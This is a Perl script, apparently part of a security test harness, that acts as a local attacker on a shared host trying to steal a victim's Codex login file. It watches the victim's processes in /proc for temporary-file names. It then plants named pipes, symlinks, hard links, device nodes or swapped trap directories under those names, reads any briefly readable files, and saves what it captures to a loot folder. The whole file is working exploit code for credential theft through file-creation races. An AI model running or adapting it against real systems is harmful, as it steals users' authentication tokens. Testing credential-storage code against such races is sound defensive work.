# Another account of the host, which can write to the Codex home of its victim and wants the victim's login.
#
# Call: planter.pl HOME VICTIM KIND LOOT. HOME is the Codex home, VICTIM a user number, KIND what is planted, LOOT a folder of
# the attacker. It watches the command lines of the victim's processes, which everybody on a host can read, for the name of a
# temporary file. It plants something under that name before the file is written, and keeps everything that comes out.
# After the signal USR1 it says in `rounds` when it has looked at everything once more.
# In LOOT, `planted` has a line for each thing that was planted, `denied` for each that could not be, `got` what was read.
use strict;
use warnings;
use Fcntl;
use POSIX ();

my ($home, $victim, $kind, $loot) = @ARGV;
umask 0;
my $asked = 0;
$SIG{USR1} = sub { $asked = 1 };
my (%known, @pipes);
# What the home had before: only what comes later is somebody's temporary file.
my %old = map { $_ => 1 } entries($home);

sub entries {
    my ($folder) = @_;
    opendir(my $handle, $folder) or return ();
    return grep { !/^\.\.?$/ } readdir $handle;
}

sub note {
    my ($file, $text) = @_;
    open(my $handle, '>>', "$loot/$file") or die "$loot/$file: $!";
    syswrite $handle, $text;
    close $handle;
}

# A named pipe that is read from now on.
sub pipe_at {
    my ($path) = @_;
    POSIX::mkfifo($path, 0666) or return 0;
    sysopen(my $handle, $path, O_RDONLY | O_NONBLOCK) or return 0;
    push @pipes, $handle;
    return 1;
}

# The names that a file may have inside a directory which the victim takes for its own.
sub trap_directory {
    my ($path) = @_;
    mkdir($path, 0777) or return 0;
    pipe_at("$path/$_") for qw(auth.json .auth.json login new file data tmp auth.json.new old);
    return 1;
}

sub plant_at {
    my ($path) = @_;
    return pipe_at($path) if $kind eq 'fifo';
    return trap_directory($path) if $kind eq 'directory';
    return symlink("$loot/file", $path) if $kind eq 'link-to-file';
    return symlink("$loot/folder", $path) if $kind eq 'link-to-directory';
    return symlink("$loot/nothing", $path) if $kind eq 'link-to-nothing';
    # The node is made by root, outside the home; a hard link puts it into place in one step.
    return link("$loot/device", $path) if $kind eq 'device';
    return link("$loot/file", $path) if $kind eq 'hard-link';
    die "unknown kind $kind";
}

# Every name that a program may make out of the word that marks one call of it.
sub plant {
    my ($mark) = @_;
    for my $name (
        ".auth.json.$mark", ".auth.json.$mark.d", "auth.json.$mark.d", "auth.json.$mark", ".auth.json.$mark.new",
        ".$mark", ".$mark.d", $mark, "$mark.d", ".auth.json.$mark.old", ".auth.json.$mark.tmp")
    {
        if (plant_at("$home/$name")) {
            note('planted', "$name\n");
        } else {
            note('denied', "$name: $!\n");
        }
    }
}

# Puts the attacker's directory in the place of one that the victim has just made in the home.
sub swap {
    my ($name) = @_;
    return unless -d "$home/$name" && !-l "$home/$name";
    if (rename("$home/$name", "$home/$name.away") && trap_directory("$home/$name")) {
        note('planted', "$name (swapped)\n");
    } else {
        note('denied', "$name (swapped): $!\n");
    }
}

# Reads whatever file of the victim it may read: the rights of a file may be wrong for a moment only.
sub read_all {
    my ($folder, $depth) = @_;
    for my $name (entries($folder)) {
        my $path = "$folder/$name";
        if (-f $path && sysopen(my $handle, $path, O_RDONLY | O_NONBLOCK | O_NOFOLLOW)) {
            while (sysread $handle, my $text, 65536) { note('got', $text) }
        } elsif ($depth && -d $path && !-l $path) {
            read_all($path, $depth - 1);
        }
    }
}

note('ready', "$$\n");
while (1) {
    # Who asks wants a whole round, and is told of its end.
    my $answers = $asked;
    for my $process (entries('/proc')) {
        next unless $process =~ /^\d+$/;
        my $owner = (stat "/proc/$process")[4];
        next unless defined $owner && $owner == $victim;
        open(my $handle, '<', "/proc/$process/cmdline") or next;
        sysread $handle, my $line, 131072;
        for my $mark (($line // '') =~ /(cra-[0-9A-Za-z_]+)/g) {
            next if $known{$mark}++;
            plant($mark) unless $kind eq 'reader';
        }
    }
    if ($kind eq 'reader') {
        read_all($home, 2);
    } else {
        for my $name (entries($home)) {
            next if $old{$name}++;
            my $owner = (lstat "$home/$name")[4];
            swap($name) if defined $owner && $owner == $victim;
        }
    }
    for my $pipe (@pipes) {
        while (sysread $pipe, my $text, 65536) { note('got', $text) }
    }
    if ($answers) {
        $asked = 0;
        note('rounds', "a whole round\n");
    }
}
